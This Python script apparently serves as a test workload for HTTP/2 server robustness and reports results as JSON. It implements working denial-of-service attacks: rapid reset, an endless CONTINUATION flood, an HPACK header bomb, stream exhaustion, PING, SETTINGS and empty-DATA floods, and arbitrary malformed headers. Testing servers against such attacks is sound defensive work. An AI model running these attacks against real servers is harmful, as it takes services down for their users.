"""An HTTP/2 workload that sends what a well-behaved client would not, with
the h2 library (its own checks of outbound headers turned off) and raw
frames where h2 will not send them. Prints one JSON object on stdout.

usage: python h2-attack.py MODE SNI IP PORT CA_FILE [ARG]
  headers JSON      one request with these header pairs (pseudo-headers included, in order)
  rapid-reset N     N streams opened and reset at once, until the server ends the connection
  continuation N    one HEADERS frame and N CONTINUATION frames that never end the block
  hpack-bomb N      one request with a 4 KiB header repeated N times (a few bytes each, once indexed)
  streams N         N streams opened with a body still to come (more than the server allows at once)
  ping-flood N      N PING frames sent before reading the server's acknowledgements
  settings-flood N  N SETTINGS frames sent before reading the server's acknowledgements
  empty-data N      one POST stream, N empty DATA frames, then the end of its body
"""
import json
import socket
import ssl
import sys

import h2.config
import h2.connection
import h2.events
import h2.settings
import hpack
from hyperframe.frame import ContinuationFrame, HeadersFrame

mode, sni, ip, port, ca = sys.argv[1:6]
arg = sys.argv[6] if len(sys.argv) > 6 else None

ctx = ssl.create_default_context(cafile=ca)
ctx.set_alpn_protocols(["h2"])
raw = socket.create_connection((ip, int(port)), timeout=30)
sock = ctx.wrap_socket(raw, server_hostname=sni)
assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()

config = h2.config.H2Configuration(client_side=True, validate_outbound_headers=False,
                                   normalize_outbound_headers=False, validate_inbound_headers=False)
conn = h2.connection.H2Connection(config=config)
conn.initiate_connection()
sock.sendall(conn.data_to_send())
# Let h2 open as many streams as we ask: the server is the one to refuse them.
h2.settings.Settings.max_concurrent_streams = property(lambda self: 2 ** 31)

result = {"responses": {}, "resets": {}, "goaway": None, "closed": False, "pingAcks": 0, "settingsAcks": 0}


def base(path="/", method="GET"):
    return [(":method", method), (":scheme", "https"), (":authority", sni), (":path", path)]


def pump(until):
    """Reads and handles events until until() holds or the connection ends."""
    while not until():
        try:
            data = sock.recv(65536)
        except (ConnectionError, ssl.SSLError, OSError) as e:
            result["closed"] = True
            result["error"] = type(e).__name__
            return
        if not data:
            result["closed"] = True
            return
        try:
            events = conn.receive_data(data)
        except Exception as e:  # a frame h2 itself will not take: the server's problem, reported
            result["protocolError"] = type(e).__name__
            return
        for ev in events:
            if isinstance(ev, h2.events.ResponseReceived):
                h = {k.decode() if isinstance(k, bytes) else k: v.decode() if isinstance(v, bytes) else v for k, v in ev.headers}
                result["responses"].setdefault(ev.stream_id, {})["headers"] = h
            elif isinstance(ev, h2.events.DataReceived):
                r = result["responses"].setdefault(ev.stream_id, {})
                r["body"] = r.get("body", "") + ev.data.decode("latin1")
                conn.acknowledge_received_data(ev.flow_controlled_length, ev.stream_id)
            elif isinstance(ev, h2.events.StreamEnded):
                result["responses"].setdefault(ev.stream_id, {})["ended"] = True
            elif isinstance(ev, h2.events.StreamReset):
                result["resets"][ev.stream_id] = int(ev.error_code)
            elif isinstance(ev, h2.events.PingAckReceived):
                result["pingAcks"] += 1
            elif isinstance(ev, h2.events.SettingsAcknowledged):
                result["settingsAcks"] += 1
            elif isinstance(ev, h2.events.ConnectionTerminated):
                result["goaway"] = int(ev.error_code)
        try:
            out = conn.data_to_send()
            if out:
                sock.sendall(out)
        except (ConnectionError, ssl.SSLError, OSError):
            result["closed"] = True
            return


def ended():
    return result["goaway"] is not None or result["closed"]


def send(data):
    try:
        sock.sendall(data)
        return True
    except (ConnectionError, ssl.SSLError, OSError):
        result["closed"] = True
        return False


def done(sid):
    return lambda: ended() or sid in result["resets"] or result["responses"].get(sid, {}).get("ended")


if mode == "headers":
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, [tuple(h) for h in json.loads(arg)], end_stream=True)
    send(conn.data_to_send())
    pump(done(sid))
elif mode == "rapid-reset":
    n = int(arg)
    sent = 0
    for i in range(n):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, base(f"/rapid/{i}"), end_stream=True)
        conn.reset_stream(sid, 8)  # CANCEL
        if not send(conn.data_to_send()):
            break
        sent += 1
    result["sent"] = sent
    pump(ended)
elif mode == "continuation":
    n = int(arg)
    enc = hpack.Encoder()
    sid = conn.get_next_available_stream_id()
    first = HeadersFrame(sid)
    first.data = enc.encode(base("/continuation"))
    first.flags.add("END_STREAM")
    send(first.serialize())
    sent = 0
    for i in range(n):
        cont = ContinuationFrame(sid)
        # Never END_HEADERS: the block never ends. Literal, never indexed, so each frame adds to the list.
        cont.data = enc.encode([(f"x-flood-{i}", "v" * 64)], huffman=False)
        if not send(cont.serialize()):
            break
        sent += 1
    result["sent"] = sent
    pump(ended)
elif mode == "hpack-bomb":
    n = int(arg)
    sid = conn.get_next_available_stream_id()
    headers = base("/bomb") + [("x-bomb", "b" * 4000)] * n
    conn.send_headers(sid, headers, end_stream=True)
    data = conn.data_to_send()
    result["encodedBytes"] = len(data)
    send(data)
    pump(done(sid))
elif mode == "streams":
    n = int(arg)
    sids = []
    for i in range(n):
        sid = conn.get_next_available_stream_id()
        conn.send_headers(sid, base(f"/streams/{i}", "POST"), end_stream=False)
        sids.append(sid)
    send(conn.data_to_send())
    # Every refused stream is told so at once; the others wait for their body.
    pump(lambda: ended() or len(result["resets"]) >= n - 100)
    result["opened"] = len(sids)
elif mode in ("ping-flood", "settings-flood"):
    n = int(arg)
    sent = 0
    for i in range(n):
        if mode == "ping-flood":
            conn.ping(i.to_bytes(8, "big"))
        else:
            conn.update_settings({h2.settings.SettingCodes.INITIAL_WINDOW_SIZE: 65535 + (i % 2)})
        # Sent in batches, never reading: the acknowledgements pile up on the server's side.
        if i % 100 == 99 or i == n - 1:
            if not send(conn.data_to_send()):
                break
        sent += 1
    result["sent"] = sent
    # Read now: every acknowledgement, or the end of the connection.
    key = "pingAcks" if mode == "ping-flood" else "settingsAcks"
    pump(lambda: ended() or result[key] >= sent)
elif mode == "empty-data":
    n = int(arg)
    sid = conn.get_next_available_stream_id()
    conn.send_headers(sid, base("/empty-data", "POST"), end_stream=False)
    send(conn.data_to_send())
    sent = 0
    for i in range(n):
        conn.send_data(sid, b"", end_stream=False)
        if i % 100 == 99 or i == n - 1:
            if not send(conn.data_to_send()):
                break
        sent += 1
    result["sent"] = sent
    # Then the end of the body: the request's answer, or the end of the connection.
    if not ended():
        conn.end_stream(sid)
        send(conn.data_to_send())
    pump(done(sid))
else:
    raise SystemExit(f"unknown mode {mode}")

result["responses"] = {str(k): v for k, v in result["responses"].items()}
result["resets"] = {str(k): v for k, v in result["resets"].items()}
print(json.dumps(result), flush=True)
sock.close()
